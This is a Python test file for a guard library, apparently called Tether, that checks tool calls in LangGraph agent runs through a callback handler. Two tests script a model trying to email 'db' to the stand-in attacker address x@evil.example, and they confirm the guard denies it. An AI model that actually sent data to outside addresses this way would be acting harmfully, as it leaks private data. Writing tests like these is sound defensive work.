"""The callback handler on graphs whose tools Tether does not wrap: in a run's callbacks, it makes
Tether govern every tool and model call of the run."""

from __future__ import annotations

import asyncio

from langchain_core.messages import HumanMessage
from langchain_core.tools import tool
from langgraph.prebuilt import ToolRuntime

from tether.core import Guard
from tether.langgraph import Tether

from .conftest import ScriptedModel, calls
from .graphs import state_graph


def config(handler: object, *more: object) -> dict:
    return {"callbacks": [handler, *more], "configurable": {"thread_id": "h-1"}}


def test_handler_refuses_a_denied_call_before_the_body_runs(guard: Guard, tools, ran) -> None:
    model = ScriptedModel(script=[calls(("send_email", {"to": "x@evil.example", "body": "db"}, "e1"))])
    handler = Tether(guard, agent="support-bot").callback_handler()
    state_graph(model, tools, None).invoke({"messages": [HumanMessage("x")]}, config(handler))
    assert ran.calls == []
    assert model.tool_replies()["e1"].startswith("Tether denied the call to 'send_email'")
    [decision] = [e for e in guard.store.session_events("h-1") if e.kind == "tool.decision"]
    assert decision.verdict == "deny"


def test_handler_refuses_in_async_runs(guard: Guard, tools, ran) -> None:
    model = ScriptedModel(script=[calls(("send_email", {"to": "x@evil.example", "body": "db"}, "e1"))])
    handler = Tether(guard, agent="support-bot").callback_handler()
    asyncio.run(state_graph(model, tools, None).ainvoke({"messages": [HumanMessage("x")]}, config(handler)))
    assert ran.calls == []
    assert "Tether denied" in model.tool_replies()["e1"]


def test_handler_records_the_chain_and_decides_once_when_attached_twice(guard: Guard, tools, ran) -> None:
    model = ScriptedModel(script=[calls(("lookup", {"ticket": "3"}, "c1"))])
    handler = Tether(guard, agent="support-bot").callback_handler()
    state_graph(model, tools, None).invoke({"messages": [HumanMessage("x")]}, config(handler, handler))
    assert ran.count("lookup") == 1
    events = guard.store.session_events("h-1")
    decisions = [e for e in events if e.kind == "tool.decision"]
    assert len(decisions) == 1
    assert len([e for e in events if e.kind == "tool.result"]) == 1
    by_id = {e.event_id: e for e in events}
    assert by_id[decisions[0].parent_id].kind == "model.response"


def test_handler_with_the_wrapper_only_observes(guard: Guard, tools, ran) -> None:
    model = ScriptedModel(
        script=[calls(("lookup", {"ticket": "3"}, "c1"), ("send_email", {"to": "a@b.c", "body": ""}, "c2"))]
    )
    t = Tether(guard, agent="support-bot")
    state_graph(model, tools, t).invoke({"messages": [HumanMessage("x")]}, config(t.callback_handler()))
    assert ran.count("lookup") == 1 and ran.count("send_email") == 0
    events = guard.store.session_events("h-1")
    assert len([e for e in events if e.kind == "tool.decision"]) == 2  # once each, by the wrapper
    decision = next(e for e in events if e.kind == "tool.decision")
    assert decision.parent_id is not None  # linked to the model response the handler recorded


def test_handler_decides_on_what_the_model_gave_not_on_injected_arguments(guard: Guard, ran) -> None:
    @tool("lookup")
    def lookup(ticket: str, runtime: ToolRuntime) -> str:
        """Read a ticket."""
        ran.calls.append(("lookup", {"ticket": ticket}))
        return f"ticket {ticket} in thread {runtime.config['configurable']['thread_id']}"

    model = ScriptedModel(script=[calls(("lookup", {"ticket": "8"}, "c1"))])
    handler = Tether(guard, agent="support-bot").callback_handler()
    state_graph(model, [lookup], None).invoke({"messages": [HumanMessage("x")]}, config(handler))
    assert ran.count("lookup") == 1
    assert model.tool_replies()["c1"] == "ticket 8 in thread h-1"
    [decision] = [e for e in guard.store.session_events("h-1") if e.kind == "tool.decision"]
    assert decision.details["args"] == {"ticket": "8"}
